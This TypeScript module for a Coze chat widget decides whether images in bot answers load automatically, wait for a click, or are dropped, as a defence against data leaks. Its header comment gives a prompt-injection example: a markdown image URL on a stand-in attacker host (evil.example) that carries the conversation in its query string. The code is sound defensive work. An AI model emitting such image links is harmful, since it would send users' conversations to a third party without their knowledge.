/**
 * Which images that bot-supplied content names may load, and when. An image that loads by itself
 * is a request the visitor never chose: a prompt-injected answer can put the conversation in its
 * URL (`![](https://evil.example/p.gif?q=…)`) and the browser would send it on render. So only
 * listed hosts load by themselves; any other `https:` image waits for a click; anything else
 * (relative, `http:`, `data:`) never loads.
 */

/** How images in answers, cards, history and the bot's icon are treated (`images`). */
export type ImagesMode = 'click' | 'allow' | 'none';

/**
 * The hosts Coze serves uploaded files, generated images and bot icons from, whose images load by
 * themselves by default (`image-hosts` replaces this list).
 */
export const COZE_IMAGE_HOSTS: readonly string[] = ['*.byteimg.com', '*.coze.cn', '*.coze.com'];

/** What becomes of one image: shown, a placeholder that loads it on a click, or left out. */
export type ImageVerdict = 'load' | 'ask' | 'drop';

/** The settings a verdict is made from. */
export interface ImageSettings {
  mode: ImagesMode;
  /** Host names (`cdn.example.com`, `*.example.com`, `host:port`) or whole origins (`http://127.0.0.1:8080`). */
  hosts: readonly string[];
  /** The origin of the Coze API in use: a self-hosted Studio serves its files from there, over `http:` too. */
  apiOrigin?: string;
}

/** Whether `entry` of `image-hosts` names `url`'s host (or, written with a scheme, its origin). */
function names(entry: string, url: URL): boolean {
  const name = entry.trim().toLowerCase().replace(/\/+$/, '');
  if (!name) return false;
  if (name.includes('://')) return name === url.origin;
  const host = name.includes(':') ? url.host : url.hostname;
  return name.startsWith('*.') ? host.endsWith(name.slice(1)) : host === name;
}

/** `src` as an absolute URL, or undefined when it is relative or not a URL. */
export function absoluteUrl(src: string): URL | undefined {
  try {
    return new URL(src.trim());
  } catch {
    return undefined;
  }
}

/**
 * The verdict for one image source. `clicked` holds the sources the visitor chose to load.
 * Under `none` nothing loads; otherwise the API's own origin and the listed origins load, and of the
 * rest only `https:` images: by themselves from listed hosts (or any host under `allow`), else on a click.
 */
export function imageVerdict(src: string, settings: ImageSettings, clicked: ReadonlySet<string> = new Set()): ImageVerdict {
  const url = absoluteUrl(src);
  if (settings.mode === 'none' || !url) return 'drop';
  if (url.origin === settings.apiOrigin || settings.hosts.some((entry) => entry.includes('://') && names(entry, url))) return 'load';
  if (url.protocol !== 'https:') return 'drop';
  if (settings.mode === 'allow' || clicked.has(url.href) || settings.hosts.some((entry) => names(entry, url))) return 'load';
  return 'ask';
}

/**
 * One widget's image policy: its settings (read afresh on each verdict, so attribute changes apply)
 * and the sources its visitor clicked to load, which stay loaded for the page's life.
 */
export class ImageGate {
  readonly #clicked = new Set<string>();
  readonly #settings: () => ImageSettings;
  readonly #changed: () => void;

  /** `changed` runs when the visitor lets an image load, so the views can draw it. */
  constructor(settings: () => ImageSettings, changed: () => void = () => {}) {
    this.#settings = settings;
    this.#changed = changed;
  }

  verdict(src: string): ImageVerdict {
    return imageVerdict(src, this.#settings(), this.#clicked);
  }

  /** The visitor asked to see the image at `src`. */
  allow(src: string): void {
    const url = absoluteUrl(src);
    if (!url) return;
    this.#clicked.add(url.href);
    this.#changed();
  }
}

/** The host an image would come from, for its placeholder. */
export function hostOf(src: string): string {
  return absoluteUrl(src)?.host ?? '';
}

/** The policy of content drawn outside any widget's settings (tests, the benchmark): Coze's hosts load, others ask. */
export const DEFAULT_IMAGE_GATE = new ImageGate(() => ({ mode: 'click', hosts: COZE_IMAGE_HOSTS }));
